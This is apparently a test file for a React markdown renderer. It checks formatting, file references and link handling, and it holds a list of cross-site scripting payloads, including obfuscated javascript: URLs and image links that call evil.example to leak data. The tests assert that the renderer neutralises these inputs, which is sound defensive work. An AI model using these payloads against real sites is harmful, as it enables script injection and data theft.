import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { createElement, type ReactNode } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { MarkdownDocument } from './document.ts';
import { fetchOpenEnd } from './open-end.ts';
import { type Parts, renderBlock } from './render.ts';

before(fetchOpenEnd);

const parts: Parts = {
  CodeBlock: ({ code, language, open }) =>
    createElement('pre', { 'data-language': language, 'data-open': open }, createElement('code', null, code)),
  FileLink: ({ file, children }) =>
    createElement('button', { type: 'button', 'data-file': `${file.path}:${file.line ?? ''}` }, children as ReactNode),
  Image: ({ href, alt }) => createElement('button', { type: 'button', 'data-image': href }, alt),
  Task: ({ done }) => createElement('i', { 'data-done': done }),
  ProseWords: ({ text }) => createElement('span', { 'data-hides': true }, text.length),
};

function html(text: string, live = false): string {
  const blocks = new MarkdownDocument().update(text, live);
  return renderToStaticMarkup(blocks.map((block) => renderBlock(block.token, parts)));
}

test('prose, emphasis, code and entities', () => {
  assert.equal(
    html('A **b** *c* ~~d~~ `e<f>` &amp; g  \nh'),
    '<p>A <strong>b</strong> <em>c</em> <del>d</del> <code>e&lt;f&gt;</code> &amp; g<br/>h</p>',
  );
});

test('headings sit below the page title and keep their look', () => {
  assert.equal(html('# One\n\n### Three'), '<h2 class="md__h1">One</h2><h4 class="md__h3">Three</h4>');
});

test('nested and task lists keep numbers, depth and state', () => {
  assert.equal(html('3. a\n   - b\n'), '<ol start="3"><li><span>a</span><ul><li><span>b</span></li></ul></li></ol>');
  assert.equal(
    html('- [x] done\n- [ ] open\n'),
    '<ul><li class="md__task"><i data-done="true"></i><span>done</span></li><li class="md__task"><i data-done="false"></i><span>open</span></li></ul>',
  );
});

test('tables keep their alignment and can be scrolled', () => {
  const shown = html('| a | b |\n|---|--:|\n| 1 | 2 |\n');
  assert.match(shown, /<div class="md__table" tabindex="0"><table><thead><tr><th>a<\/th><th class="md__right">b<\/th>/);
  assert.match(shown, /<td>1<\/td><td class="md__right">2<\/td>/);
});

test('a fence names its language and nothing else', () => {
  assert.equal(
    html('```TS title="x"\na < b\n```'),
    '<pre data-language="ts" data-open="false"><code>a &lt; b</code></pre>',
  );
});

test('file places become references in text, code and relative links', () => {
  assert.match(
    html('see src/a.ts:12 now'),
    /see <button type="button" data-file="src\/a.ts:12">src\/a.ts:12<\/button> now/,
  );
  assert.match(html('`src/a.ts`'), /<button type="button" data-file="src\/a.ts:"><code>src\/a.ts<\/code><\/button>/);
  assert.match(html('[the file](src/a.ts#L3)'), /data-file="src\/a.ts:3">the file/);
});

test('an outside link opens apart, says where it leads and gives nothing away', () => {
  assert.equal(
    html('[x](https://example.org/)'),
    '<p><a href="https://example.org/" title="https://example.org/" target="_blank" rel="noopener noreferrer nofollow">x</a></p>',
  );
});

const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'text <svg/onload=alert(1)> more',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<style>*{position:fixed}</style>',
  '<a href="javascript:alert(1)" style="position:fixed">x</a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT&colon;alert(1))',
  '[x](java&#x0A;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](vbscript:msgbox)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/?leak=secret)',
  '![x][r]\n\n[r]: https://evil.example/leak.png',
  '[r]\n\n[r]: javascript:alert(1)',
  '[x](https://ok.example "title\\" onmouseover=alert(1)")',
  '```"><script>alert(1)</script>\ncode\n```',
  '| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |',
  '- [ ] <script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '[x](//evil.example)',
  '<details open ontoggle=alert(1)>',
  '`<script>`<script>alert(1)</script>',
];

test('no hostile text becomes an element, an attribute or an address of its own', () => {
  const tags = /<\/?([a-z0-9]+)/g;
  const known = new Set(
    'p h2 ul li span code pre button i div table thead tbody tr th td a strong em blockquote'.split(' '),
  );
  for (const payload of payloads)
    for (const live of [false, true]) {
      const shown = html(payload, live);
      for (const [, tag = ''] of shown.matchAll(tags)) assert.ok(known.has(tag), `<${tag}> from ${payload}: ${shown}`);
      assert.doesNotMatch(shown, /<[^>]*\s(?:on\w+|style|src|srcdoc)=/i, payload);
      for (const [, href] of shown.matchAll(/ href="([^"]*)"/g)) assert.match(href ?? '', /^(https?|mailto):/, payload);
    }
});

test('an image is never loaded by being shown', () => {
  assert.doesNotMatch(html('![x](https://evil.example/?leak=1)'), /<img/);
});

test('quotes nested a thousand deep are shown and do not break the page', () => {
  assert.match(html(`${'>'.repeat(1000)} deep`), /deep/);
});
